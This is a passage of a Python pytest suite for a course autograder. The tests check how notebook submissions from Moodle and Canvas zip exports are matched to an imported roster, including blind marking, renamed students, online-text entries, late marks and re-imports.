    assert "from collects before student ids came from the LMS (both would be graded: remove the old ones): " \
           "alice (now canvas-1001)" in result.stdout
    assert helpers.submitted(root, "alice").exists()                # the instructor's to remove


# --------------------------------------------------------------------------- issue 31: Moodle as it exports, the roster
def _moodle_prefix(fullname, participant):
    """What Moodle names a participant's files after (mod/assign/classes/downloader.php, get_student_prefix):
    the full name with "_" written " ", then "_<participant number>", through clean_filename (PARAM_FILE
    drops control characters and &<>"`|':\\/)."""
    return re.sub(r"[\x00-\x1f\x7f&<>\"`|':\\/]", "", fullname.replace("_", " ") + f"_{participant}")


def _moodle_names(layout, fullname, participant, plugin="file", file="softmax.ipynb"):
    """The entry Moodle writes for one file of a participant (downloader.php, load_submissionplugin_filelist):
    "folders" (Moodle >= 4.0: "<prefix>_assignsubmission_<plugin>/<file>"), "flat" ("Download submissions in
    folders" off: "<prefix>_assignsubmission_<plugin>_<file>"), "group-3.x" (Moodle 3.x in group mode:
    "<group>-<full name>_<participant>_assignsubmission_<plugin>_/<file>"); the online-text plugin's file is
    onlinetext.html."""
    file = "onlinetext.html" if plugin == "onlinetext" else file
    if layout == "group-3.x":
        return f"{_moodle_prefix('Group A-' + fullname, participant)}_assignsubmission_{plugin}_/{file}"
    prefix = f"{_moodle_prefix(fullname, participant)}_assignsubmission_{plugin}"
    return f"{prefix}/{file}" if layout == "folders" else f"{prefix}_{file}"


ROSTER_PEOPLE = [   # Moodle's participants download: First name, Last name, ID number, Email address
    ["Zoë", "Martin", "S-001", "zoe@uni.example"], ["Hua", "Li", "", "hua.li@uni.example"],
    ["Seán", "O'Brien", "S-003", "sean@uni.example"], ["Ana", "Gómez", "S-004", "ana@uni.example"],
    ["Sam", "Lee", "S-005", "sam.lee@uni.example"], ["Sam", "Lee", "S-006", "sam.lee2@uni.example"],
    ["Kim", "Park", "S-007", "kim@uni.example"]]
WORKSHEET = [   # the grading worksheet of 01_softmax: the participant numbers of Zoë, Hua, Seán and Ana
    ["Participant 5550101", "Zoë Martin", "zoe@uni.example", "Submitted for grading", "", "10.00", "Yes", "-", "-", ""],
    ["Participant 5550102", "Hua Li", "hua.li@uni.example", "Submitted for grading", "", "10.00", "Yes", "-", "-", ""],
    ["Participant 5550103", "Seán O'Brien", "sean@uni.example", "Submitted for grading", "", "10.00", "Yes", "-", "-",
     ""],
    ["Participant 5550104", "Ana Gómez", "ana@uni.example", "Submitted for grading", "", "10.00", "Yes", "-", "-", ""]]
NO_NUMBER = ("the roster holds no participant number {0} of 01_softmax: import the assignment's grading worksheet "
             "(python -m autograder roster import FILE --assignment 01_softmax)")


def _table(rows):
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerows(rows)
    return "\ufeff" + out.getvalue()


@pytest.fixture(scope="module")
def class_with_roster(tmp_path_factory):
    """A course whose roster is Moodle's participants download plus 01_softmax's grading worksheet."""
    from autograder import roster
    tmp = tmp_path_factory.mktemp("roster")
    root = helpers.course(tmp)
    people = tmp / "courseid_7_participants.csv"
    people.write_text(_table([["First name", "Last name", "ID number", "Email address"], *ROSTER_PEOPLE]))
    worksheet = tmp / "Grades-ATT101-Softmax-42.csv"
    worksheet.write_text(_table([["Identifier", "Full name", "Email address", "Status", "Grade", "Maximum grade",
                                  "Grade can be changed", "Last modified (submission)", "Last modified (grade)",
                                  "Feedback comments"], *WORKSHEET]))
    course = courses.course_at(root)
    assert roster.import_file(course, people)[1] is None
    assert roster.import_file(course, worksheet, "01_softmax", gradebook=False)[1] is None
    return root


@pytest.fixture
def rostered(class_with_roster, tmp_path):
    """A copy of ``class_with_roster`` (gradebook included) for one test."""
    root = tmp_path / "course"
    shutil.copytree(class_with_roster, root)
    return root


def _build(builder, path, entries):
    return _zip(path, entries) if builder == "zipfile" else _info_zip(path, entries)


def _line(out, start):
    (line,) = [line for line in out.splitlines() if line.startswith(start)]
    return line


@pytest.mark.parametrize("builder", ["zipfile", "zip"])
@pytest.mark.parametrize("layout", ["folders", "flat", "group-3.x"])
def test_moodle_submissions_map_to_the_roster(rostered, tmp_path, layout, builder):
    """Each submitter by her participant number (the worksheet's), never by her name: Zoë; Ana, written
    "Last First" as a Japanese site writes it; Seán, who renamed herself "Kim Park" like a classmate,
    stays Seán and is named on a line.  Sam Lee and Eve, whose numbers the worksheet does not hold,
    keep the archive's id and are named on one line; Hua's online text is named as not graded; who
    submitted nothing is listed."""
    entries = {_moodle_names(layout, "Zoë Martin", 5550101): _notebook(),
               _moodle_names(layout, "Kim Park", 5550103): _notebook(WRONG),
               _moodle_names(layout, "Gómez Ana", 5550104): _notebook(),
               _moodle_names(layout, "Sam Lee", 5550105): _notebook(),
               _moodle_names(layout, "Eve Unknown", 5550106): _notebook(),
               _moodle_names(layout, "Hua Li", 5550102, plugin="onlinetext"): "<p>my answer is 42</p>"}
    out = _collect(rostered, _build(builder, tmp_path / "ATT101-Softmax-42.zip", entries))
    assert _students(rostered) == sorted(["moodle-5550105", "moodle-5550106", S001, S003, S004])
    assert helpers.submitted(rostered, S003).read_text() == _notebook(WRONG)
    assert out.startswith("collected 5 submission(s) of 01_softmax") and "skipped" not in out
    group = "Group A-" if layout == "group-3.x" else ""
    assert _line(out, "could not map to the roster: ") == (
        f"could not map to the roster: '{group}Sam Lee' (moodle-5550105: {NO_NUMBER.format(5550105)}); "
        f"'{group}Eve Unknown' (moodle-5550106: {NO_NUMBER.format(5550106)})")
    renamed_line = _line(out, "named otherwise in the zip than in the roster")
    assert f"Seán O'Brien ({S003}) is '{group}Kim Park' in the zip" in renamed_line
    # the whole name only ("Jean-Luc" never passes for "Luc"): Moodle 3.x's "<group>-<name>" is named too
    assert (f"Zoë Martin ({S001})" in renamed_line) == bool(group)
    assert _line(out, "online-text submissions") == ("online-text submissions, not notebooks, not graded (grade them "
                                                     f"in Moodle): Hua Li ({HUA})")
    assert _line(out, "submitted nothing") == (
        f"submitted nothing for 01_softmax (3 of 7 in the roster; or among those not mapped above): "
        f"Sam Lee ({S005}), Sam Lee ({S006}), Kim Park ({S007})")
    with Gradebook(helpers.gradebook_url(rostered)) as gradebook:
        names = {s.id: (s.first_name, s.last_name, s.email) for s in gradebook.students}
    assert names[S004] == ("Ana", "Gómez", "ana@uni.example")      # the roster's, not the folder's
    assert names[S003] == ("Seán", "O'Brien", "sean@uni.example")  # not the name she gave herself
    assert names["moodle-5550106"] == ("", f"{group}Eve Unknown", None)
    origins = lms.origins(courses.course_at(rostered), "01_softmax")
    zoe = _moodle_names(layout, "Zoë Martin", 5550101)
    assert origins[S001] == {
        "lms": "moodle", "folder": zoe.split("/")[0] if "/" in zoe else "", "files": [zoe],
        "display": f"{group}Zoë Martin", "late": False, "participant": "5550101"}
    assert set(origins) == {"moodle-5550105", "moodle-5550106", S001, S003, S004}


@pytest.mark.parametrize("builder", ["zipfile", "zip"])
def test_blind_marking_maps_by_the_participant_number_alone(rostered, tmp_path, builder):
    """Blind marking writes "Participant" for every name: the worksheet's numbers are all there is."""
    entries = {"Participant_5550101_assignsubmission_file/softmax.ipynb": _notebook(),
               "Participant_5550105_assignsubmission_file/softmax.ipynb": _notebook(WRONG),
               "Participant_5550102_assignsubmission_onlinetext/onlinetext.html": "<p>42</p>"}
    out = _collect(rostered, _build(builder, tmp_path / "blind.zip", entries))
    assert _students(rostered) == ["moodle-5550105", S001]
    assert _line(out, "could not map to the roster: ") == (
        f"could not map to the roster: Participant (moodle-5550105: {NO_NUMBER.format(5550105)})")
    assert f"(grade them in Moodle): Hua Li ({HUA})" in out and "named otherwise" not in out
    assert lms.origins(courses.course_at(rostered), "01_softmax")[S001]["folder"] == \
        "Participant_5550101_assignsubmission_file"


def test_canvas_test_student_left_out_of_the_roster_is_not_collected(tmp_path):
    """Canvas's Test Student ("Student, Test"), whom the roster leaves out, is skipped by collect too,
    so she is neither graded, counted in the report, nor exported."""
    root = helpers.course(tmp_path)
    grades = tmp_path / "grades.csv"
    grades.write_text(_table([["Student", "ID", "SIS Login ID", "Section"], ["Smith, Alice", "1001", "alice", "A"],
                              ["Student, Test", "904", "", "A"]]))
    assert roster_import(root, grades).returncode == 0
    out = _run(root, _zip(tmp_path / "canvas.zip", {"alice_1001_5001_softmax.ipynb": _notebook(),
                                                    "testuser_904_5904_softmax.ipynb": _notebook()})).stdout
    assert _students(root) == ["canvas-1001"]
    assert "testuser_904_5904_softmax.ipynb (Canvas's Test Student (left out of the roster))" in out


def roster_import(root, path, *args):
    return subprocess.run([sys.executable, "-m", "autograder", "roster", "import", str(path), *args, "--course-root",
                           str(root)], cwd=helpers.REPO, capture_output=True, text=True, timeout=120)


@pytest.mark.parametrize("builder", ["zipfile", "zip"])
def test_moodle_layouts_without_a_roster_keep_the_participant_ids(tmp_path, builder):
    """No roster: every layout gives moodle-<participant number>, online text is named, not skipped in silence."""
    root = helpers.course(tmp_path)
    entries = {_moodle_names("flat", "Zoë Martin", 2001): _notebook(),
               _moodle_names("flat", "Li Hua", 2002, file="softmax v_1_2.ipynb"): _notebook(WRONG),   # reads as Canvas too
               "Participant_2003_assignsubmission_file/softmax.ipynb": _notebook(),
               _moodle_names("flat", "Ana Gómez", 2004, plugin="onlinetext"): "<p>42</p>"}
    out = _collect(root, _build(builder, tmp_path / "moodle.zip", entries))
    assert _students(root) == ["moodle-2001", "moodle-2002", "moodle-2003"]
    assert helpers.submitted(root, "moodle-2002", name="softmax v_1_2.ipynb").read_text() == _notebook(WRONG)
    assert _line(out, "online-text submissions") == ("online-text submissions, not notebooks, not graded (grade them "
                                                     "in Moodle): 'Ana Gómez' (moodle-2004)")
    assert "could not map" not in out and "submitted nothing" not in out and "skipped" not in out
    assert _names(root) == {"moodle-2001": "Zoë Martin", "moodle-2002": "Li Hua", "moodle-2003": "Participant"}
    assert lms.origins(courses.course_at(root), "01_softmax")["moodle-2001"]["folder"] == ""


def test_a_top_level_name_read_both_ways_follows_its_archive(tmp_path):
    """A Canvas learner's name can hold "_<digits>_assignsubmission_file_": her entry then reads as Moodle's
    flat layout too.  It takes the layout of the archive's other entries; alone, it is refused."""
    root = helpers.course(tmp_path)
    crafted = "x_2001_assignsubmission_file_y_1003_5003_softmax.ipynb"
    out = _collect(root, _zip(tmp_path / "canvas.zip", {**HONEST, crafted: _notebook(WRONG)}))
    assert _students(root) == ["canvas-1001", "canvas-1002", "canvas-1003"] and "skipped" not in out
    alone = helpers.course(tmp_path / "alone")
    with pytest.raises(NotebookError, match="reads both as a Canvas and as a Moodle submission"):
        _collect(alone, _zip(tmp_path / "alone.zip", {crafted: _notebook()}))


def test_a_canvas_class_with_a_roster_is_listed_by_name(tmp_path):
    """`collect` and the class run's summary show the roster's names; a Canvas user the roster does not
    know keeps her id and is named; the roster's students without a notebook are listed."""
    from autograder import classrun
    root = helpers.course(tmp_path)
    grades = tmp_path / "grades.csv"
    grades.write_text(_table([["Student", "ID", "SIS Login ID", "Section", "Softmax (4021)"],
                              ["    Points Possible", "", "", "", "10.00"],
                              ["Martin, Zoë", "1004", "zoe", "A", ""], ["Smith, Alice", "1001", "alice", "A", ""],
                              ["Park, Kim", "1007", "kim", "B", ""]]))
    imported = subprocess.run([sys.executable, "-m", "autograder", "roster", "import", str(grades), "--course-root",
                               str(root)], cwd=helpers.REPO, capture_output=True, text=True, timeout=120)
    assert imported.returncode == 0, imported.stderr
    archive = _zip(tmp_path / "canvas.zip", {"martinzoë_LATE_1004_5004_softmax.ipynb": _notebook(),
                                             "martinzoë_LATE_1004_5004_softmax-Copy1.ipynb": _notebook(),
                                             "alice_1001_5001_softmax.ipynb": _notebook(),
                                             "mallory_1666_5666_softmax.ipynb": _notebook(WRONG)})
    result = _run(root, archive)
    assert result.returncode == 0, result.stderr
    out = result.stdout
    assert _line(out, "collected ").endswith("; marked late by the LMS: Zoë Martin (canvas-1004)")
    assert "(reported by grade): Zoë Martin (canvas-1004)/softmax-Copy1.ipynb" in out
    assert _line(out, "could not map to the roster: ") == (
        "could not map to the roster: mallory (canvas-1666: no student of the roster has this Canvas id)")
    assert _line(out, "submitted nothing") == "submitted nothing for 01_softmax (1 of 3 in the roster; or among " \
                                              "those not mapped above): Kim Park (canvas-1007)"
    assert _names(root)["canvas-1004"] == "Martin" and _names(root)["canvas-1666"] == "mallory"
    assert lms.origins(courses.course_at(root), "01_softmax")["canvas-1004"]["late"] is True
    summary = io.StringIO()
    outcomes = [classrun.Outcome("canvas-1004", True, 10, 10), classrun.Outcome("canvas-1666", True, 3, 10)]
    classrun.print_summary("01_softmax", outcomes, out=summary, course=courses.course_at(root))
    assert summary.getvalue().splitlines()[1:] == ["  Zoë Martin (canvas-1004)  10/10",
                                                   "  canvas-1666                3/10"]


def test_collect_after_the_roster_points_out_the_folders_of_earlier_collects(rostered, tmp_path):
    """Collected before the roster, Zoë was moodle-5550101; after it, she is moodle-id-s-001: both would
    be graded, so the line names the old folder."""
    (rostered / "autograder" / "roster.json").rename(tmp_path / "roster.json")
    archive = _zip(tmp_path / "moodle.zip", {_moodle_names("folders", "Zoë Martin", 5550101): _notebook()})
    _collect(rostered, archive)
    (tmp_path / "roster.json").rename(rostered / "autograder" / "roster.json")
    out = _collect(rostered, archive)
    assert _line(out, "autograder/submitted/ also holds folders under the ids the archive gives").endswith(
        f"(both would be graded: remove the old ones): moodle-5550101 (now Zoë Martin ({S001}))")


def test_a_second_import_says_whose_notebooks_it_replaced(tmp_path):
    """Collecting again replaces each student's notebooks with the zip's (the LMS's latest): said, by name."""
    root = helpers.course(tmp_path)
    first = _collect(root, _zip(tmp_path / "october.zip", HONEST))
    assert "replaced" not in first
    again = _collect(root, _zip(tmp_path / "november.zip", {"alice_1001_5001_softmax.ipynb": _notebook(WRONG)}))
    assert _line(again, "replaced ") == ("replaced the notebooks of an earlier import for 1 student(s) (this zip is "
                                         "the LMS's latest): canvas-1001")
    assert helpers.submitted(root, "canvas-1001").read_text() == _notebook(WRONG)
